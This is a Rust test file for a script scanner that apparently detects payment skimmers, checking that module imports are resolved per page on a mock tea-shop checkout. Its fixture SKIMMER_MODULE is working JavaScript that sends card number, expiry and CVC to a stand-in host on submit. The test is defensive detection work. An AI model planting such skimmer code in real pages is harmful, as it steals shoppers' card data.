//! Issue 8: a script's imports are read while the downloads go on (scan/imports_ahead.rs), in
//! the way the first page that names it runs it. The same file can run as a classic script on
//! one page and as a module on another, and the two read differently (a static `import` is
//! only an import in a module). These scans name both pages in both orders: whichever page
//! comes first, the module page must get the module its script imports (a skimmer here), and
//! the classic page must not.

mod common;
use common::*;

fn checkout(title: &str, script_tag: &str) -> String {
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title} – Harbour Tea Co.</title>
{script_tag}</head><body>
<main><h1>Payment</h1>
<form id="pay" action="/checkout/pay" method="post">
  <label for="cc-number">Card number</label><input id="cc-number" name="cardnumber" autocomplete="cc-number">
  <label for="cc-exp">Expiry</label><input id="cc-exp" name="exp" autocomplete="cc-exp">
  <label for="cc-csc">CVC</label><input id="cc-csc" name="cvc" autocomplete="cc-csc">
  <button type="submit">Pay £23.50</button>
</form></main></body></html>"#
    )
}

/// Loaded by the shared bundle, as a module only: posts the card fields out on submit.
const SKIMMER_MODULE: &str = r#"
const sink = 'https://cdn-static-analytics.example/c';
document.getElementById('pay').addEventListener('submit', () => {
  const v = (id) => document.getElementById(id).value;
  navigator.sendBeacon(sink, JSON.stringify({ n: v('cc-number'), e: v('cc-exp'), c: v('cc-csc') }));
});
"#;

fn shop() -> Server {
    serve(vec![
        (
            "/checkout/classic",
            html(&checkout(
                "Checkout",
                r#"<script src="/static/bundle.js"></script>"#,
            )),
        ),
        (
            "/checkout/module",
            html(&checkout(
                "Express checkout",
                r#"<script type="module" src="/static/bundle.js"></script>"#,
            )),
        ),
        (
            "/static/bundle.js",
            js("import './telemetry.js';\nexport const ready = true;\n"),
        ),
        ("/static/telemetry.js", js(SKIMMER_MODULE)),
    ])
}

fn rows_on<'a>(report: &'a serde_json::Value, page_end: &str) -> Vec<&'a serde_json::Value> {
    report["scripts"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|s| s["page"].as_str().is_some_and(|p| p.ends_with(page_end)))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_file_run_as_a_module_on_one_page_and_classic_on_another_reads_per_page() {
    for first in ["/checkout/classic", "/checkout/module"] {
        let s = shop();
        let second = if first == "/checkout/classic" {
            "/checkout/module"
        } else {
            "/checkout/classic"
        };
        let (code, report, stderr) = scan_json(&[
            "--depth",
            "0",
            "--resolve",
            &s.resolve("shop.test"),
            &s.url("shop.test", first),
            &s.url("shop.test", second),
        ]);
        assert_eq!(code, 1, "first {first}: {stderr}\n{report:#}");
        let on_module: Vec<&str> = rows_on(&report, "/checkout/module")
            .iter()
            .filter_map(|r| r["url"].as_str())
            .collect();
        assert!(
            on_module
                .iter()
                .any(|u| u.ends_with("/static/telemetry.js")),
            "first {first}: the module page's import is missing: {report:#}"
        );
        let on_classic: Vec<&str> = rows_on(&report, "/checkout/classic")
            .iter()
            .filter_map(|r| r["url"].as_str())
            .collect();
        assert!(
            !on_classic
                .iter()
                .any(|u| u.ends_with("/static/telemetry.js")),
            "first {first}: a classic script does not load static imports: {report:#}"
        );
        let exfil: Vec<&serde_json::Value> = report["findings"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter(|f| f["rule"] == "payment-data-exfiltration")
                    .collect()
            })
            .unwrap_or_default();
        assert!(
            exfil.iter().any(|f| {
                f["page"]
                    .as_str()
                    .is_some_and(|p| p.ends_with("/checkout/module"))
                    && f["script"]
                        .as_str()
                        .is_some_and(|x| x.ends_with("/static/telemetry.js"))
            }),
            "first {first}: {report:#}"
        );
        // Each file fetched once, whichever way its pages run it.
        assert_eq!(s.hits("/static/bundle.js"), 1, "first {first}");
        assert_eq!(s.hits("/static/telemetry.js"), 1, "first {first}");
    }
}
